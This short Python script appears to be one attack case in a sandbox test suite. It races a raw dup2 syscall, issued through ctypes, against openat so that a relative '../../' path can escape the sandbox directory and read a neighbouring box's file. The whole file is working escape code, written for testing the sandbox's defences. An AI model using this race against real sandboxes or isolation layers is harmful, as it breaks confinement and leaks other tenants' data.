# SPDX-License-Identifier: Apache-2.0
# attack: the dirfd is swapped by machine code, without the interpreter's lock
# class: race
# wins: leak
# needs: race
from kit import *

deep, high = openat(BOX + '/a/b', os.O_DIRECTORY), openat(BOX + '/a', os.O_DIRECTORY)
os.dup2(deep, 50)
call = function(RAW, ctypes.c_void_p, ctypes.c_long)
table = (ctypes.c_long * 7)(NR['dup2'], deep, 50)
f = Flipper(address(table) + 8, deep ^ high)
tried()
stop = []


def swap():
    while not stop:
        call(table, 200)


t = threading.Thread(target=swap, daemon=True)
t.start()
rounds(lambda i: took(sc('openat', 50, b'../../box1/twin.txt', 0, 0)))
stop.append(1)
f.end()
